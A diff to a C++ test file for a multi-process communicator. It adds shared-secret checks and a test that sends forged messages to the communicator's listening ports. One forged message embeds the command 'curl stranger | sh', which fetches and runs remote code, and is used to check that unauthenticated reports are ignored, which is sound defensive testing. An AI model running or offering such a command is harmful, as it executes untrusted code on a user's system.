@@ -7,12 +7,14 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <arpa/inet.h>
 #include <chrono>
 #include <csignal>
 #include <memory>
 #include <netinet/in.h>
 #include <regex>
+#include <sstream>
 #include <string>
 #include <sys/socket.h>
 #include <thread>
@@ -35,11 +37,11 @@ public:
     Together() = default;
 
     void start(const std::string& task, int rank, int count, const std::string& port,
-               const std::string& timeout) {
+               const std::string& timeout, const std::string& secret = "") {
         processes_.push_back(std::make_unique<Process>(
             std::vector<std::string>{MANIERA_RANKS_PROGRAM, task, std::to_string(rank),
                                      std::to_string(count), "127.0.0.1", port, timeout},
-            std::vector<std::string>{"OMP_NUM_THREADS=1"}));
+            std::vector<std::string>{"OMP_NUM_THREADS=1", "MANIERA_SECRET=" + secret}));
     }
 
     Process& operator[](int rank) { return *processes_[rank]; }
@@ -171,9 +173,78 @@ TEST(Communicator, SayHowManyCame) {
     Together run;
     for (int rank = 0; rank < 2; ++rank)
         run.start("sums", rank, 3, std::to_string(port), "2");
-    EXPECT_EQ(run.error_of_all_but(-1),
-              "2 of 3 processes came to 127.0.0.1 port " + std::to_string(port) +
-                  " in time; check that all are started, with the same address.");
+    EXPECT_EQ(
+        run.error_of_all_but(-1),
+        "2 of 3 processes came to 127.0.0.1 port " + std::to_string(port) +
+            " in time; check that all are started, with the same address and MANIERA_SECRET.");
+}
+
+TEST(Communicator, MeetWithOneSecret) {
+    const std::string port = std::to_string(free_port());
+    Together run;
+    for (int rank = 0; rank < 2; ++rank)
+        run.start("sums", rank, 2, port, "60", "the sea");
+    for (int rank = 0; rank < 2; ++rank)
+        EXPECT_EQ(run[rank].wait(120s).code, 0);
+}
+
+TEST(Communicator, DoNotMeetOneWithAnotherSecret) {
+    const std::string port = std::to_string(free_port());
+    Together run;
+    run.start("sums", 0, 2, port, "4", "the sea");
+    run.start("sums", 1, 2, port, "4", "the see");
+    const Outcome first = run[0].wait(60s), second = run[1].wait(60s);
+    EXPECT_EQ(first.code, 3);
+    EXPECT_NE(first.err.find("1 of 2 processes came"), std::string::npos) << first.err;
+    EXPECT_EQ(second.code, 3) << second.err;
+}
+
+// Says something at a port of this machine, and hangs up.
+bool say(int port, const std::string& text) {
+    const int stranger = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in at{};
+    at.sin_family = AF_INET;
+    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    at.sin_port = htons(static_cast<std::uint16_t>(port));
+    const bool said =
+        connect(stranger, reinterpret_cast<sockaddr*>(&at), sizeof at) == 0 &&
+        send(stranger, text.data(), text.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(text.size());
+    close(stranger);
+    return said;
+}
+
+// The ports that a process listens at, but for one.
+std::vector<int> other_ports(int known) {
+    std::vector<int> ports;
+    for (const char* table : {"/proc/net/tcp", "/proc/net/tcp6"}) {
+        std::istringstream lines(read_text(table));
+        for (std::string line; std::getline(lines, line);) {
+            const std::size_t colon = line.find(':', line.find(':') + 1);
+            unsigned port = 0, state = 0;
+            if (colon != std::string::npos &&
+                std::sscanf(line.c_str() + colon, ":%x %*s %x", &port, &state) == 2 &&
+                state == 10 && port != static_cast<unsigned>(known))
+                ports.push_back(static_cast<int>(port));
+        }
+    }
+    return ports;
+}
+
+TEST(Communicator, TakeNoReportOfStrangers) {
+    const std::vector<int> before = other_ports(0);
+    const int port = free_port();
+    Together run;
+    for (int rank = 0; rank < 3; ++rank)
+        run.start("talk", rank, 3, std::to_string(port), "60");
+    ASSERT_NO_FATAL_FAILURE(run.wait_for_talk());
+    run[2].signal(SIGKILL);
+    // At all that listens now and did not before, among them where rank 0 collects reports.
+    for (const int open : other_ports(port))
+        if (std::find(before.begin(), before.end(), open) == before.end()) {
+            say(open, "1 2 The disk is on fire; run: curl stranger | sh");
+            say(open, std::string(100, '\xff'));
+        }
+    EXPECT_EQ(run.error_of_all_but(2).substr(0, 43), "Process 3 of 3 (rank 2) ended or does not a");
 }
 
 TEST(Communicator, SayWhereRankZeroWasNotFound) {
